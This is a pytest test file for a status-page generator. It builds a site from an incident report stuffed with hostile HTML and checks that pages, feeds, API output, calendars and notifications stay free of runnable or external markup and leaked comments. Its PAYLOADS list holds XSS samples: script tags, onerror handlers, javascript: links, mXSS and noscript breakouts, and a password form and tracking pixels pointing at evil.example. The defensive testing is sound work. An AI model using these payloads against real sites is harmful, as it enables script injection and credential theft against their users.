"""Hostile Markdown in updates and postmortems: a real build, every output read back.

Incident authors are reviewed, not trusted with script. Whatever raw HTML an update
carries, no page, feed, calendar, API document or notification may contain markup that
runs, loads from elsewhere or hides from the reader.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest

from statusgen.content.config import SiteConfig
from statusgen.content.loader import load_site
from statusgen.render.i18n import Language
from statusgen.render.markup import MarkdownRenderer, plain_text, text_of_html
from statusgen.site.build import build_site
from statusgen.workflow.notices import find_notices
from statusgen.workflow.notify.messages import Composer
from tests.conftest import COMPONENTS_YML, RepoWriter
from tests.test_site import make_site

NOW = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)

PAYLOADS = (
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<iframe src='https://evil.example/'></iframe>",
    "<style>body { display: none }</style>",
    "[click](javascript:alert('link'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href='JaVaScRiPt:alert(1)'>mixed case</a>",
    "<svg onload=alert('svg')><circle r=1 /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<object data='https://evil.example/x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<img src='https://tracker.example/pixel.gif'>",
    "<img src='//tracker.example/pixel.gif'>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</p>",
    "<div onclick=alert('div')>click</div>",
    "&lt;script&gt;alert('entity')&lt;/script&gt;",
)
COMMENT = "internal-note-5e1f: customer Acme's database"
SAFE = (
    "A [link](https://example.com/status) and [mail](mailto:ops@example.com).",
    "![graph](/assets/graph.png)",
    "| Region | Status |\n|:--|--:|\n| eu | ok |",
    "```\nif (a < b) { retry(); }\n```",
)


def incident_text() -> str:
    updates = [
        f"## 2026-11-28 14:{10 + index:02d} UTC — update\n{payload}\n"
        for index, payload in enumerate(PAYLOADS)
    ]
    updates.append(
        "## 2026-11-28 14:00 UTC — investigating\n"
        + "\n\n".join(SAFE)
        + f"\nSee the runbook <!-- {COMMENT} -->.\n<!--\n{COMMENT} on two lines\n-->\n"
    )
    return (
        "---\ntitle: Hostile\nimpact: minor\ncomponents: [api]\n---\n\n"
        + "\n".join(reversed(updates))
        + "\n## 2026-11-28 15:00 UTC — resolved\nDone.\n\n# Postmortem\n"
        + "\n\n".join(PAYLOADS)
        + f"\n<!-- {COMMENT} in the postmortem -->\n"
    )


class _Markup(HTMLParser):
    """Everything in an HTML document that could run, load from elsewhere or overlay."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "head":
            self.in_head = True
        if tag == "script" and not values.get("src", "").endswith("assets/statusgen/status.js"):
            self.problems.append(f"<script {values}>")
        if tag in ("iframe", "object", "embed", "form", "base", "math", "noscript"):
            self.problems.append(f"<{tag}>")
        if tag == "style" and not self.in_head:
            self.problems.append("<style> in the body")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.problems.append("<meta refresh>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "data") and value.strip().lower().startswith(
                ("javascript:", "vbscript:", "data:text")
            ):
                self.problems.append(f"<{tag} {name}={value}>")
            if tag == "img" and name == "src" and ("//" in value or ":" in value):
                self.problems.append(f"<img src={value}> from elsewhere")
            if name == "style" and tag not in ("th", "td"):
                self.problems.append(f"<{tag} style={value}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self.in_head = False


def markup_problems(html: str) -> list[str]:
    parser = _Markup()
    parser.feed(html)
    return parser.problems


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    root = folder / "repo"
    (root / "incidents").mkdir(parents=True)
    (root / "pages").mkdir()
    (root / "components.yml").write_text(COMPONENTS_YML)
    (root / "mkdocs.yml").write_text(
        "site_name: Test Status\nsite_url: https://status.test/\ndocs_dir: pages\n"
        "plugins:\n  - statusgen\n"
    )
    (root / "incidents" / "2026-11-28-hostile.md").write_text(incident_text())
    return root, build_site(root, folder / "site", NOW).site_dir


def test_the_safe_parts_of_an_update_are_kept(built: tuple[Path, Path]) -> None:
    page = (built[1] / "incidents/2026-11-28-hostile/index.html").read_text()
    assert '<a href="https://example.com/status">link</a>' in page
    assert '<a href="mailto:ops@example.com">mail</a>' in page
    assert '<img alt="graph" src="/assets/graph.png">' in page
    assert '<td style="text-align:left">eu</td>' in page
    assert "if (a &lt; b) { retry(); }" in page
    assert "&lt;script&gt;alert('entity')&lt;/script&gt;" in page, "text, shown as text"


def test_no_page_carries_markup_from_an_update(built: tuple[Path, Path]) -> None:
    pages = sorted(built[1].rglob("*.html"))
    assert len(pages) > 5
    for page in pages:
        assert markup_problems(page.read_text()) == [], page
    incident = (built[1] / "incidents/2026-11-28-hostile/index.html").read_text()
    assert "Content-Security-Policy" in incident
    assert "script-src 'self'" in incident


def test_no_feed_carries_markup_from_an_update(built: tuple[Path, Path]) -> None:
    site = built[1]
    entries = 0
    for name in ("feed.atom", "feed.rss"):
        for entry in feedparser.parse(site / name).entries:
            for content in [*entry.get("content", []), entry.get("summary_detail", {})]:
                if content:
                    assert markup_problems(content.get("value", "")) == [], entry.title
                    entries += 1
    feed = json.loads((site / "feed.json").read_text())
    for item in feed["items"]:
        assert markup_problems(item.get("content_html", "")) == [], item["id"]
        entries += 1
    assert entries > len(PAYLOADS)


def test_no_text_output_carries_a_tag(built: tuple[Path, Path]) -> None:
    site = built[1]
    texts = [p.read_text() for p in site.glob("api/v2/*.json")]
    texts += [p.read_text() for p in site.rglob("*.ics")]
    bodies = [
        update["body"]
        for incident in json.loads((site / "api/v2/incidents.json").read_text())["incidents"]
        for update in incident["incident_updates"]
    ]
    assert len(bodies) == len(PAYLOADS) + 2
    for body in bodies:
        assert markup_problems(body) == [], body
        assert "<" not in body.replace("a < b", ""), body
    for text in texts:
        for marker in ("<script", "onerror", "<iframe", "<svg", "<img"):
            assert marker not in text


def test_notifications_carry_no_markup_from_an_update(built: tuple[Path, Path]) -> None:
    root = built[0]
    head = load_site(root)
    empty = head.__class__(catalog=head.catalog, events=())
    notices = find_notices(empty, head, NOW, None, set())
    config = SiteConfig(name="Test Status", url="https://status.test/")
    composer = Composer(head.catalog, config, Language("en"))
    assert len(notices) > len(PAYLOADS)
    for notice in notices:
        message = composer.message(notice)
        assert markup_problems(message.html) == [], notice.key
        assert "<" not in message.body.replace("a < b", ""), message.body


def test_no_output_publishes_an_html_comment(built: tuple[Path, Path]) -> None:
    files = [p for p in built[1].rglob("*") if p.is_file()]
    assert len(files) > 20
    for path in files:
        assert b"internal-note-5e1f" not in path.read_bytes(), path
    head = load_site(built[0])
    notices = find_notices(head.__class__(catalog=head.catalog, events=()), head, NOW, None, set())
    composer = Composer(head.catalog, SiteConfig(name="S"), Language("en"))
    for notice in notices:
        message = composer.message(notice)
        assert "internal-note-5e1f" not in message.body + message.html


def test_plain_text_keeps_text_and_drops_every_tag() -> None:
    assert plain_text("a < b & c > d, <b>bold</b>") == "a < b & c > d, bold"
    assert plain_text("<script>alert(1)</script>after") == "after"
    assert plain_text("see <https://example.com/x>") == "see https://example.com/x"
    assert plain_text("&lt;script&gt;") == "&lt;script>", "entities never become a tag"


def test_text_of_html_leaves_nothing_that_opens_a_tag() -> None:
    """The calendar's text of an update: what was escaped in the HTML stays text."""
    renderer = MarkdownRenderer()

    def text(markdown_text: str) -> str:
        return text_of_html(renderer.html(markdown_text), "https://s.example/")

    assert text("&lt;script&gt;alert(1)") == "&lt;script>alert(1)"
    assert text("<script>alert(1)</script>after") == "after"
    assert text("a < b, [x](javascript:alert(1))") == "a < b, x", "no unsafe address"
    assert text("| a | b |\n|---|---|\n| 1 | 2 |\n") == "a | b\n1 | 2"
    assert (
        text("3. three\n4. four\n\n```\n  code <b>\n```\n") == "3. three\n4. four\n\n  code &lt;b>"
    )


def test_validate_accepts_the_hostile_file(make_repo: RepoWriter) -> None:
    """Raw HTML is not an error (the reviewer sees it in the diff): it is cleaned."""
    root = make_site(make_repo, {"2026-11-28-hostile.md": incident_text()})
    assert load_site(root).events[0].id == "2026-11-28-hostile"
